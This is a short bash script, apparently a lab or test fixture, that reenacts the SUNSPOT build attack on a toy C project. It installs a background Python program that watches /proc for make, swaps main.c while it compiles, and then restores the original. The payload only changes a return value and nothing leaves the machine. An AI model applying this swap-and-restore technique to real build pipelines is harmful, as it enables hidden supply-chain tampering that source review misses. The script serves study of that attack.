#!/bin/bash
# A resident program that waits for the compiler, swaps a source just before it is read, and puts it back. Nothing leaves the machine.
#: tool python
#: description a resident program swaps a source file while the compiler runs, and puts it back
#: project a program in C
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: finding restore
#: attack SolarWinds, SUNSPOT, 2020
if [ "${1-}" = prepare ]; then
  printf 'int main(void) { return 0; }\n' > main.c
  cat > ~/resident.py <<'END'
import os, pathlib, time

source = pathlib.Path("main.c")
honest = source.read_text()
def compiling():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if "main.c" in open(f"/proc/{pid}/cmdline").read() and "make" in open(f"/proc/{pid}/comm").read():
                return True
        except OSError:
            pass
end = time.monotonic() + 10
while not compiling() and time.monotonic() < end:
    time.sleep(0.05)
source.write_text("int main(void) { return 1; }\n")
time.sleep(3)
source.write_text(honest)
END
  printf 'main.o:\n\tsleep 1\n\tgcc -c main.c\n' > Makefile
  exit
fi
/usr/bin/python3 ~/resident.py &
make -s main.o --eval "# main.c"
wait
